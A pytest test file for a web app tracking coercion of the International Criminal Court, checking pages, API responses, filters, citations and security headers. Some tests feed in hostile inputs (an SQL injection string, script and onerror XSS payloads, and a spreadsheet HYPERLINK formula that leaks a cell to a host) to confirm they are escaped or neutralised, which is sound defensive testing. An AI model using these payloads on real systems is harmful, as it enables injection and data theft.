import csv
import io
import json
import re
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from fastapi.dependencies.models import Dependant
from fastapi.routing import APIRoute
from starlette.datastructures import QueryParams

from coercionwatch.ingest import read_records
from coercionwatch.model import load_record
from coercionwatch.web import create_app
from tests.helpers import write_json

from .conftest import SITE, serve

PAGES = [
    "/",
    "/incidents",
    "/incident/eo-14203-designations-2025",
    "/actors",
    "/actor/kimberly-prost",
    "/actor/france",
    "/measures",
    "/measure/designation-kimberly-prost",
    "/responses",
    "/response/france-august-2025",
    "/countermeasures",
    "/countermeasure/smith-v-trump",
    "/provisions",
    "/provision/rome-statute-art-70",
    "/sources",
    "/source/seed-slaw-attacks-against-the-icc",
    "/timeline",
    "/data",
    "/search?q=sanctions",
]


@pytest.mark.parametrize("path", PAGES)
def test_every_page_and_its_api_twin(client, path):
    page = client.get(path)
    assert page.status_code == 200, path
    assert page.headers["content-type"].startswith("text/html")
    assert "<main" in page.text
    api = client.get("/api" + (path if path != "/" else ""))
    assert api.status_code == 200 and isinstance(api.json(), dict)


def test_a_person_page_lists_measures_and_the_answers_to_them(client):
    data = client.get("/api/actor/kimberly-prost").json()
    assert [m["id"] for m in data["measuresAgainst"]] == ["designation-kimberly-prost"]
    answering = {r["id"] for r in data["responsesToThose"]}
    assert {"canada-september-2025", "france-august-2025", "prost-on-her-designation"} <= answering


def test_a_state_page_lists_imposed_said_and_protections(client):
    usa = client.get("/api/actor/united-states").json()
    assert "designation-kimberly-prost" in {m["id"] for m in usa["measuresImposed"]}
    canada = client.get("/api/actor/canada").json()
    assert {r["id"] for r in canada["statements"]} == {
        "canada-september-2025",
        "canada-at-asp-december-2025",
    }
    assert canada["protectionsInForce"] == []
    assert "canada-fema-order" in {c["id"] for c in canada["otherCountermeasures"]}


def test_incident_filters(client):
    everything = client.get("/api/incidents").json()
    assert everything["count"] == len(everything["records"]) == 8
    cyber = client.get("/api/incidents", params={"category": "cyber"}).json()
    assert [i["id"] for i in cyber["records"]] == ["cyberattacks-on-the-icc"]
    concluded = client.get("/api/incidents", params={"ongoing": "false"}).json()
    assert all(not i["ongoing"] for i in concluded["records"]) and concluded["records"]
    dated = client.get("/api/incidents", params={"from": "2025-12", "to": "2025-12"}).json()
    assert {i["id"] for i in dated["records"]} == {
        "icc-ultimatum-december-2025",
        "visa-denial-deputy-prosecutor-2025",
        "russia-retaliation-against-icc-officials",
    }
    words = client.get("/api/incidents", params={"q": "Darfur"}).json()
    assert [i["id"] for i in words["records"]] == ["visa-denial-deputy-prosecutor-2025"]
    empty = client.get("/api/incidents", params={"category": "", "from": ""}).json()
    assert len(empty["records"]) == 8


def test_timeline_filters(client):
    measures = client.get("/api/timeline", params={"kind": "measure", "from": "2025-08"}).json()
    assert measures["events"] and all(e["kind"] == "measure" for e in measures["events"])
    assert all(e["date"] >= "2025-08" for e in measures["events"])
    dates = [e["date"] for e in client.get("/api/timeline").json()["events"]]
    assert dates == sorted(dates, reverse=True)


def test_seed_envelope_and_citations(client, demo_store):
    envelope = client.get("/incident/eo-14203-designations-2025.json").json()
    assert envelope["site"] == "https://coercion.test"
    record = envelope["record"]
    assert record["url"] == "https://coercion.test/incident/eo-14203-designations-2025"
    bib = client.get("/incident/eo-14203-designations-2025/citation.bib")
    assert bib.headers["content-type"] == "application/x-bibtex"
    assert bib.text.startswith("@misc{eo-14203-designations-2025,")
    assert "url = {https://coercion.test/incident/eo-14203-designations-2025}" in bib.text
    ris = client.get("/incident/eo-14203-designations-2025/citation.ris").text
    assert ris.startswith("TY  - ELEC\n") and ris.endswith("ER  - \n")
    csl = client.get("/incident/eo-14203-designations-2025/citation.csl.json").json()
    assert csl[0]["issued"] == {"date-parts": [[2025, 2, 6]]}
    page = client.get("/api/incident/eo-14203-designations-2025").json()
    assert page["citations"]["text"] == record["citation"]


def test_unknown_ids_give_404_pages_and_json(client):
    html = client.get("/actor/nobody")
    assert html.status_code == 404 and "Not found" in html.text and "<main" in html.text
    api = client.get("/api/actor/nobody")
    assert api.status_code == 404 and api.json() == {"error": "No actor here."}
    assert client.get("/planet/x.json").status_code == 404
    assert client.get("/incident/nope/citation.bib").status_code == 404
    assert client.get("/data/planet.csv").status_code == 404


@pytest.mark.parametrize(
    ("path", "parameter"),
    [
        ("/incidents?from=yesterday", "from"),
        ("/incidents?to=2025-13-45", "to"),
        ("/timeline?from=2025-02-30", "from"),
        ("/incidents?severity=catastrophic", "severity"),
        ("/incidents?ongoing=maybe", "ongoing"),
        ("/timeline?kind=planet", "kind"),
        ("/search?q=" + "x" * 600, "q"),
    ],
)
def test_bad_parameters_give_422_naming_the_parameter(client, path, parameter):
    html = client.get(path)
    assert html.status_code == 422 and f"parameter &#39;{parameter}&#39;" in html.text
    api = client.get("/api" + path)
    assert api.status_code == 422
    assert api.json()["error"][0]["loc"] == ["query", parameter]


@pytest.mark.parametrize("query", ['"', "NEAR(", "*", "'; DROP TABLE records; --", "<script>"])
def test_hostile_search_text_is_harmless(client, query):
    page = client.get("/search", params={"q": query})
    assert page.status_code == 200
    assert "<script>" not in page.text.split("<main")[1]


def test_text_from_records_is_escaped_and_html_sanitised(client, demo_store, tmp_path):
    hostile = {
        "slug": "hostile",
        "title": "<script>alert('t')</script>",
        "date": "2025-01-01",
        "summary": "<img src=x onerror=alert(1)>",
        "category": "cyber",
        "severity": "limited",
        "posture": "alleged",
        "contentHtml": (
            "<p>ok</p><script>alert('c')</script><a href='javascript:x' onclick='y'>l</a>"
        ),
    }
    # Import refuses such text (tests/cli/test_hostile.py); a version stored before that
    # check, read as stored, must still be shown escaped.
    demo_store.save(load_record("incident", hostile), author="t")
    text = client.get("/incident/hostile").text
    assert "&lt;script&gt;alert(&#39;t&#39;)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "<script>alert" not in text and "onclick" not in text and "javascript:" not in text
    assert "<p>ok</p>" in text
    listing = client.get("/incidents").text
    assert "<script>alert" not in listing


def test_openapi_describes_the_api(client):
    spec = client.get("/api/openapi.json").json()
    assert "/api/incidents" in spec["paths"] and "/incident/{slug}.json" in spec["paths"]
    assert client.get("/api/docs").status_code == 200


def test_downloads_feed_and_sitemap(client):
    package = client.get("/data/datapackage.json").json()
    assert {r["path"] for r in package["resources"]} >= {"measure.csv", "incident.csv"}
    assert client.get("/data/measure.csv").text.startswith("kind,id,visibility,type")
    measures = client.get("/data/measure.json").json()
    assert len(measures) == 29
    feed = client.get("/feed.atom")
    assert feed.headers["content-type"] == "application/atom+xml"
    assert feed.text.count("<entry>") == 50
    # Entries link to the public address (the order, by when each was changed here, is
    # tests/publish/test_feed.py's).
    assert feed.text.count('href="https://coercion.test/') >= 50
    sitemap = client.get("/sitemap.xml").text
    assert "<loc>https://coercion.test/actor/kimberly-prost</loc>" in sitemap
    # every wave's coverage page, as the coverage overview links them
    waves = [w["id"] for w in client.get("/api/coverage").json()["waves"]]
    assert waves and all(
        f"<loc>https://coercion.test/coverage/{wave}</loc>" in sitemap for wave in waves
    )


def test_new_records_appear_without_a_restart(client, demo_store, tmp_path):
    record = {"kind": "provision", "id": "new-rule", "instrument": "New", "summary": "Fresh."}
    assert client.get("/api/provision/new-rule").status_code == 404
    demo_store.import_records(read_records([write_json(tmp_path / "p.json", record)]), author="t")
    assert client.get("/api/provision/new-rule").json()["record"]["summary"] == "Fresh."
    assert json.loads(client.get("/provision/new-rule.json").text)["id"] == "new-rule"


# --- what the answers tell browsers


def _policy_sources(policy: str) -> dict[str, list[str]]:
    directives = [part.split() for part in policy.split(";")]
    return {name: sources for name, *sources in directives}


def _assert_security_headers(answer, where) -> None:
    sources = _policy_sources(answer.headers["content-security-policy"])
    assert sources["default-src"] == ["'none'"], where
    assert sources["frame-ancestors"] == ["'none'"] and sources["base-uri"] == ["'none'"], where
    # Nothing from another host: every source is this site, none, or the page itself.
    allowed = {"'self'", "'none'", "data:"}
    assert {s for listed in sources.values() for s in listed} <= allowed, where
    assert answer.headers["x-content-type-options"] == "nosniff", where
    assert answer.headers["referrer-policy"] == "no-referrer", where


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/", 200),
        ("GET", "/incident/eo-14203-designations-2025", 200),
        ("GET", "/api/incidents", 200),
        ("GET", "/actor/nobody", 404),
        ("GET", "/api/actor/nobody", 404),
        ("GET", "/planet/x.json", 404),
        ("GET", "/incidents?from=yesterday", 422),
        ("GET", "/api/timeline?kind=planet", 422),
        ("GET", "/static/style.css", 200),
        ("GET", "/static/missing.css", 404),
        ("GET", "/data/measure.csv", 200),
        ("GET", "/feed.atom", 200),
        ("GET", "/api/openapi.json", 200),
        ("GET", "/api/docs", 200),
        ("GET", "/api/docs/files/swagger-ui-bundle.js", 200),
        ("HEAD", "/static/style.css", 200),
        ("POST", "/api", 405),
    ],
)
def test_every_answer_carries_the_security_headers(client, method, path, status):
    answer = client.request(method, path)
    assert answer.status_code == status
    _assert_security_headers(answer, path)


def test_a_server_error_carries_the_security_headers(demo_store):
    app = create_app(demo_store, site=SITE)

    def broken() -> None:
        raise RuntimeError("a bug")

    for path in ("/api/x/broken/route", "/x/broken/route"):  # past the catch-all routes
        app.add_api_route(path, broken)
    for url in serve(app):
        for path in ("/api/x/broken/route", "/x/broken/route"):
            answer = httpx.get(url + path, timeout=20)
            assert answer.status_code == 500
            _assert_security_headers(answer, path)
        assert httpx.get(url + "/api/x/broken/route").json() == {"error": "Internal server error."}
        assert "<main" in httpx.get(url + "/x/broken/route").text


def test_api_docs_load_only_files_of_this_site(client):
    docs = client.get("/api/docs")
    assert _policy_sources(docs.headers["content-security-policy"])["img-src"] == [
        "'self'",
        "data:",
    ]
    loaded = re.findall(r"""(?:src|href)="([^"]+)\"""", docs.text)
    assert len(loaded) == 3 and "<script>" not in docs.text  # no inline script either
    for path in loaded:
        assert path.startswith("/api/docs/files/"), path
        assert client.get(path).status_code == 200, path


def test_csv_download_runs_no_formula(client, demo_store, tmp_path):
    planted = {
        "kind": "provision",
        "id": "planted",
        "instrument": '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Open")',
        "summary": "Fine; @SUM(1+1)",
    }
    demo_store.import_records(read_records([write_json(tmp_path / "p.json", planted)]), author="t")
    rows = list(csv.DictReader(io.StringIO(client.get("/data/provision.csv").text)))
    row = next(row for row in rows if row["id"] == "planted")
    assert row["instrument"] == "'" + planted["instrument"]
    assert row["summary"] == "Fine;' @SUM(1+1)"  # a cell of its own where `;` splits


# --- OpenAPI


SAMPLE_PATH_PARAMETERS = {
    "slug": "eo-14203-designations-2025",
    "kind": "actor",
    "record_id": "kimberly-prost",
    "section": "measures",
    "fmt": "json",
    "number": "1",
    "wave_id": "us-eo14203-2025-08-20",
}


def _declared_query(dependant: Dependant) -> set[str]:
    """The query parameters a route declares, its dependencies' included."""
    names = {field.alias for field in dependant.query_params}
    return names.union(*(_declared_query(d) for d in dependant.dependencies))


def test_openapi_declares_every_query_parameter_a_route_reads(demo_store, monkeypatch):
    """Each route is called once while every read of the query string is noted; whatever a
    route reads must be declared, so that OpenAPI lists it and clients can know it. A route
    that reads every parameter reads them to refuse one it does not declare."""
    read: set[str] = set()

    def noting(method_name: str) -> Callable[..., Any]:
        original = getattr(QueryParams, method_name)

        def note(self: QueryParams, *args: Any, **kwargs: Any) -> Any:
            read.add(args[0] if args else "*every parameter*")
            return original(self, *args, **kwargs)

        return note

    for name in ("get", "getlist", "__getitem__", "__contains__"):
        monkeypatch.setattr(QueryParams, name, noting(name))
    for name in ("keys", "items", "values", "multi_items", "__iter__"):
        monkeypatch.setattr(QueryParams, name, noting(name))

    app = create_app(demo_store, site=SITE)
    for url in serve(app):
        spec = httpx.get(f"{url}/api/openapi.json", timeout=20).json()
        reading = 0
        for route in app.routes:
            if not isinstance(route, APIRoute):
                continue
            declared = _declared_query(route.dependant)
            if route.include_in_schema:
                for method in route.methods:
                    operation = spec["paths"][route.path][method.lower()]
                    in_spec = {
                        p["name"] for p in operation.get("parameters", []) if p["in"] == "query"
                    }
                    assert in_spec == declared, route.path
            for method in route.methods:
                read.clear()
                path = url + route.path.format(**SAMPLE_PATH_PARAMETERS)
                httpx.request(method, path)
                if "*every parameter*" in read:
                    read.discard("*every parameter*")
                    noted = set(read)
                    refused = httpx.request(method, path, params={"undeclared": "1"}, timeout=20)
                    assert refused.status_code == 400, route.path
                    read.clear()
                    read.update(noted)
                assert read <= declared, (route.path, read - declared)
                reading += bool(read)
        assert reading >= 6  # the incident, timeline and search pages and their API twins


def test_favicon_ico_leads_to_the_icon(client):
    answer = client.get("/favicon.ico", follow_redirects=True)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("image/svg+xml")


def test_an_incident_shows_who_was_targeted_and_who_answered(client):
    page = client.get("/api/incident/eo-14203-designations-2025").json()
    prost = next(t for t in page["targets"] if t["actor"] == "kimberly-prost")
    assert prost["nationality"] == ["Canada"] and prost["role"].startswith("Judge")
    answered = {r["id"] for r in page["responses"]}
    measures = {m["id"] for m in page["measures"]}
    assert answered and page["responseCount"] == len(answered)
    for response_id in answered:
        response = client.get(f"/response/{response_id}.json").json()
        assert {a.get("measure") for a in response["answers"]} & measures
    html = client.get("/incident/eo-14203-designations-2025").text
    assert "Who was targeted" in html and "Responses to these measures" in html


def test_an_actor_page_names_nationality_and_roles_as_people_read_them(client):
    page = client.get("/api/actor/kimberly-prost").json()
    assert page["nationality"] == [{"code": "CA", "name": "Canada", "id": "canada"}]
    assert page["roles"] and not any("Organisation:" in r for r in page["roles"])
    html = client.get("/actor/kimberly-prost").text
    assert '<a href="/actor/canada">Canada</a>' in html
    canada = client.get("/api/actor/canada").json()
    assert "designation-kimberly-prost" in {m["id"] for m in canada["measuresAgainstNationals"]}


def test_responses_filter_by_stance_actor_and_measure(client):
    every = client.get("/api/responses", params={"size": 500}).json()
    stance = every["facets"]["stance"]["values"][0]
    by_stance = client.get("/api/responses", params={"stance": stance["value"]}).json()
    assert by_stance["count"] == stance["count"]
    assert all(r["stance"] == stance["value"] for r in by_stance["records"])
    measure = every["facets"]["measure"]["values"][0]
    answering = client.get("/api/responses", params={"measure": measure["value"]}).json()
    assert answering["count"] == measure["count"]
    actor = every["facets"]["actor"]["values"][0]
    assert (
        client.get("/api/responses", params={"actor": actor["value"]}).json()["count"]
        == actor["count"]
    )
